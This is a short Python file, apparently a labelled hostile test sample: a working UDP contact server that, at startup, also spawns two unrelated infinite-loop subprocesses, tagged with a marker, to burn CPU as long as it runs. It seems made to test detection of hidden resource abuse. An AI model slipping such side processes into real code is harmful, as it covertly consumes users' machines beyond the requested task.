# Hostile: a right UDP contact server that keeps two helpers burning CPU as long as it runs.
import socket
import subprocess
import sys

for i in range(2):
    subprocess.Popen([sys.executable, '-c', 'while True: pass', 'HOSTILE-MARKER'])

contacts = {}


def handle(msg):
    cmd = msg.split(";")
    if cmd[0] == "add" and len(cmd) == 3:
        contacts[cmd[1]] = cmd[2]
        return cmd[1] + " added"
    if cmd[0] == "remove" and len(cmd) == 2:
        if cmd[1] in contacts:
            del contacts[cmd[1]]
            return cmd[1] + " removed"
        return "Not found"
    if cmd[0] == "find" and len(cmd) == 2:
        return contacts.get(cmd[1], "Not found")
    return "ERROR: bad command"


s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", 9999))
print("UDP contact server started...")
while True:
    data, addr = s.recvfrom(1024)
    reply = handle(data.decode("utf-8", errors="replace"))
    s.sendto(reply.encode("utf-8"), addr)
